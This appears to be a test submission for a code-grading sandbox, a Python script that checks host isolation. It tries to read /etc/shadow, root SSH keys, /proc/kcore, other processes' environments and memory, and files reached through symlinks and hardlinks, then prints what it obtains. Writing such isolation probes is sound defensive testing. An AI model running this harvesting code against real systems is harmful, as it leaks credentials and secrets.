"""Reads the host's files, the course, other submissions, and other processes' environments.

status: graded
seconds: 8
everywhere: yes
"""
# %% extra
import glob, os

places = [*FILES, "/etc/passwd", "/etc/shadow", "/root/.ssh/id_rsa", "/proc/1/environ", "/proc/1/cmdline", "/proc/kcore"]
for number in (*PROCESSES, os.getppid(), 1, "self", "thread-self"):
    places += [f"/proc/{number}/{name}" for name in ("environ", "cmdline", "maps", "mem", "cwd/secret.txt", "root/etc/passwd")]
    places += glob.glob(f"/proc/{number}/fd/*")
got = {}
for place in places:
    try:
        descriptor = os.open(place, os.O_RDONLY | os.O_NONBLOCK)
        try:
            got[place] = os.read(descriptor, 1 << 16)
        finally:
            os.close(descriptor)
    except (OSError, ValueError):
        pass
for place in ("/", "/root", "/home", "/etc", "/proc", "/var", os.path.dirname(FILES[0]), "/tmp"):
    try:
        got[place] = os.listdir(place)[:50]
    except OSError:
        pass
for path in FILES:
    for name in ("link", "hard"):
        try:
            (os.symlink if name == "link" else os.link)(path, name)
            got[name] = open(name, "rb").read()
        except OSError:
            pass
        finally:
            if os.path.lexists(name):
                os.remove(name)
print({place: data for place, data in got.items() if "environ" in place or place in FILES or "passwd" in place or "hard" == place or "link" == place})
